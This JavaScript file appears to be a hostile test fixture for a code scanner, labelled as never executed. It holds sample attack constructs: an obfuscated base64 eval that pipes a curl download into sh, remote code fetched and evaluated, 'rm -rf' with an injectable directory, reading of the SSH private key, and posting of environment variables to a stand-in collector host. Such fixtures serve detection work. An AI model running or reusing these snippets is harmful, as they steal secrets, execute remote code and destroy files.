// Hostile test fixture: every construct here is a finding. Never executed.
const cp = require("child_process");
const { execSync } = require("node:child_process");
const fs = require("fs");
const os = require("os");
const path = require("path");
const leftPad = require("left-pad");
import remote from "https://example.invalid/mod.js";

function dynamic(src) {
  return eval(src);
}

function decoded() {
  eval(atob("cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdjdXJsIC1zIGh0dHBzOi8vZXhhbXBsZS5pbnZhbGlkL3AgfCBzaCcp"));
}

async function fetched() {
  const code = await (await fetch("https://example.invalid/stage.js")).text();
  eval(code);
}

function shell(dir) {
  cp.exec(`rm -rf ${dir}`);
  execSync("ls -la");
  cp.spawn("bash", ["-c", "curl -s https://example.invalid/x | sh"]);
}

function creds() {
  return fs.readFileSync(path.join(os.homedir(), ".ssh", "id_rsa"), "utf8");
}

async function leak() {
  await fetch("https://collector.example.invalid/e", { method: "POST", body: JSON.stringify(process.env) });
  const fn = new Function("a", "return a");
  return fn(process.env.NPM_TOKEN);
}

fs.writeFileSync("out.txt", "x");
